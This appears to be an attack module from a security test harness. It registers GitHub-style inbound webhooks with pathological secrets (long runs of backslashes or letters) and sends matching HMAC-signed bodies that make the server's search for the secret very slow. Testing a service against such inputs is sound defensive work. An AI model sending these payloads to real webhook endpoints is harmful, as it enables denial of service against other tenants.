import { createHmac } from 'node:crypto'
import { ask } from '../../harness/client.ts'
import type { Attack } from './attack.ts'
import { describeAnswers, inboundConnection } from './inbound-connection.ts'

const backslash = '\\'
/** Secrets that an administrator of a tenant may choose, with bodies that repeat them almost. */
const pairs = [
  { secret: `${backslash.repeat(21)}x`, body: JSON.stringify({ action: backslash.repeat(45) }) },
  { secret: `${'a'.repeat(1000)}b`, body: JSON.stringify({ action: 'a'.repeat(20_000) }) },
  { secret: `${'a'.repeat(8000)}b`, body: JSON.stringify({ action: 'a'.repeat(1_000_000) }) },
  { secret: `${backslash.repeat(8000)}b`, body: JSON.stringify({ action: backslash.repeat(500_000) }) },
]

/** A verified body is searched for the secret that signed it, so both come from the attacker. */
export const inboundSecretPattern: Attack = {
  name: 'a secret that is slow to search for',
  run: async (target) => {
    const answers = []
    for (const { secret, body } of pairs) {
      const url = await inboundConnection(target, { scheme: 'github', secret })
      const bytes = Buffer.from(body)
      const signature = `sha256=${createHmac('sha256', secret).update(bytes).digest('hex')}`
      const headers = {
        'content-type': 'application/json',
        'x-github-event': 'issues',
        'x-github-delivery': '72d3162e-cc78-11e3-81ab-4c9367dc0958',
        'x-hub-signature-256': signature,
      }
      answers.push(await ask({ url, method: 'POST', headers, bytes }))
    }
    return describeAnswers(answers)
  },
}
